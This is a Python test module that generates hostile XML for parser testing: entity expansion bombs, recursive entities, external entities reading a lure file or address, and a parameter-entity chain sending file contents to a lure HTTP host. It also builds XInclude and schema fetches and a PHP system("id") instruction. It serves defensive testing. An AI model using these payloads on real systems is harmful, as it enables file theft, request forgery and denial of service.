"""XML that is built to exhaust its reader or to make it open something: entities, DTDs, inclusions, nesting.

The attacks are those that the documentation of the package defusedxml lists.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from typing import Final

from curbside.testing._hostile import Lures, Maker, Sample

_ROOT = re.compile(rb"<([A-Za-z][\w:.-]*)(?=[\s/>])[^>]*>")
_PROLOG = re.compile(rb"^\s*(?:\xef\xbb\xbf)?\s*<\?xml[^>]*\?>|<!DOCTYPE[^>\[]*(?:\[.*?\])?[^>]*>", re.DOTALL)
_STANDING = re.compile(rb">([^<>]*\w[^<>]*)<")
PLAIN: Final = b"<article><body><p>Invented: give exemplamine 5 mg.</p></body></article>"


def _bare(sample: Sample) -> tuple[str, bytes, bytes]:
    """(name, root element's name, body without its prolog): of the sample, or of a small article where it is no XML."""
    raw = sample.raw if sample.raw.lstrip(b"\xef\xbb\xbf \r\n\t").startswith((b"<?xml", b"<")) else PLAIN
    name = sample.name if raw is sample.raw else "hostile.xml"
    body = _PROLOG.sub(b"", raw)
    root = _ROOT.search(body)
    return name, root[1] if root else b"article", body


def _used(chance: random.Random, body: bytes, reference: bytes) -> bytes:
    """`body` with `reference` put into one of its texts."""
    texts = list(_STANDING.finditer(body))
    if not texts:
        return body + reference
    at = chance.choice(texts).end(1)
    return body[:at] + reference + body[at:]


def _declaring(subset: Callable[[random.Random, Lures], bytes], reference: bytes = b"&lure;") -> Maker:
    def make(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
        name, root, body = _bare(sample)
        prolog = b'<?xml version="1.0"?>\n<!DOCTYPE ' + root + b" [\n" + subset(chance, lures) + b"\n]>\n"
        return name, prolog + _used(chance, body, reference)

    return make


def _laughs(chance: random.Random, lures: Lures) -> bytes:
    wide = chance.choice((4, 10, 30))
    steps = [b'<!ENTITY l0 "%s">' % (b"ha" * chance.choice((1, 50)))]
    steps += [b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * wide) for n in range(1, 11)]
    return b"\n".join([*steps, b'<!ENTITY lure "&l10;">'])


def _quadratic(chance: random.Random, lures: Lures) -> bytes:
    return b'<!ENTITY lure "%s">' % (b"x" * chance.choice((100, 60_000, 3_000_000)))


def _in_a_loop(chance: random.Random, lures: Lures) -> bytes:
    return b'<!ENTITY lure "&other;"> <!ENTITY other "&lure;">'


def _of_a_file(chance: random.Random, lures: Lures) -> bytes:
    kind = chance.choice(('SYSTEM "{}"', 'PUBLIC "-//x//y" "{}"'))
    return f"<!ENTITY lure {kind.format(lures.file)}>".encode()


def _of_an_address(chance: random.Random, lures: Lures) -> bytes:
    return f'<!ENTITY lure SYSTEM "{lures.http}">'.encode()


def _of_parameters(chance: random.Random, lures: Lures) -> bytes:
    address = chance.choice((lures.file, lures.http))
    inner = f"<!ENTITY &#37; send SYSTEM '{lures.http}?%file;'>"
    declared = (f'% file SYSTEM "{lures.file}"', f'% more "{inner}"', f'% dtd SYSTEM "{address}"')
    return "\n".join([*(f"<!ENTITY {one}>" for one in declared), "%dtd; %more;"]).encode()


def _external_dtd(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, root, body = _bare(sample)
    address = chance.choice((lures.file, lures.http)).encode()
    prolog = b'<?xml version="1.0" standalone="no"?>\n<!DOCTYPE ' + root + b' SYSTEM "' + address + b'">\n'
    return name, prolog + _used(chance, body, b"&lure;" if chance.random() < 0.5 else b"")


def _included(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, _, body = _bare(sample)
    parse = chance.choice(("text", "xml"))
    address = chance.choice((lures.file, lures.http))
    element = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="{parse}" href="{address}"/>'
    return name, _used(chance, body, element.encode())


def _instructed(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, _, body = _bare(sample)
    address = chance.choice((lures.file, lures.http))
    instruction = (
        f'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="{address}"?>\n<?php system("id"); ?>\n'
    )
    return name, instruction.encode() + body


def _schema(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, root, body = _bare(sample)
    hint = (
        f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{lures.http}"'
        f' xsi:schemaLocation="x {lures.file}"'
    )
    return name, body.replace(b"<" + root, b"<" + root + hint.encode(), 1)


def _attributes(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, root, body = _bare(sample)
    many = b"".join(b' a%d="x"' % n for n in range(20_000))
    added = chance.choice((b' a="' + b"x" * 15_000_000 + b'"', many, b' a="&lure;"', b' a="1" a="2"', b' xmlns:x=""'))
    return name, body.replace(b"<" + root, b"<" + root + added, 1)


def _deep(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, _, body = _bare(sample)
    tag = chance.choice((b"sec", b"p", b"b", b"div", b"list", b"table", b"section", b"mml:mrow", b"a"))
    depth = chance.choice((250, 300, 20_000))
    return name, _used(
        chance, body, b"<" + tag + b">" * 1 + (b"<" + tag + b">") * depth + b"x" + (b"</" + tag + b">") * (depth + 1)
    )


def _encoded(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, _, body = _bare(sample)
    declared = chance.choice(
        (b"utf-16", b"ascii", b"UTF-7", b"x-unknown", b"ISO-2022-JP", b"UCS-4", b"EBCDIC-CP-US", b"")
    )
    return name, b'<?xml version="1.0" encoding="' + declared + b'"?>\n' + body


def _referenced(chance: random.Random, sample: Sample, lures: Lures) -> tuple[str, bytes]:
    name, _, body = _bare(sample)
    odd = (
        b"&#0;",
        b"&#x110000;",
        b"&#xD800;",
        b"&#27;",
        b"&nbsp;",
        b"&mgr;",
        b"&lure;",
        b"&",
        b"&#x202E;",
        b"&#133;",
        b"]]>",
    )
    return name, _used(chance, body, chance.choice(odd))


MAKERS: Final[dict[str, Maker]] = {
    "entities: many laughs": _declaring(_laughs),
    "entities: quadratic": _declaring(_quadratic, b"&lure;" * 2_000),
    "entities: in a loop": _declaring(_in_a_loop),
    "entities: of a file": _declaring(_of_a_file),
    "entities: of an address": _declaring(_of_an_address),
    "entities: parameters": _declaring(_of_parameters, b"&send;"),
    "entities: odd references": _referenced,
    "XML: external DTD": _external_dtd,
    "XML: XInclude": _included,
    "XML: instructions": _instructed,
    "XML: schema address": _schema,
    "XML: attributes": _attributes,
    "XML: deep": _deep,
    "XML: encoding declared": _encoded,
}
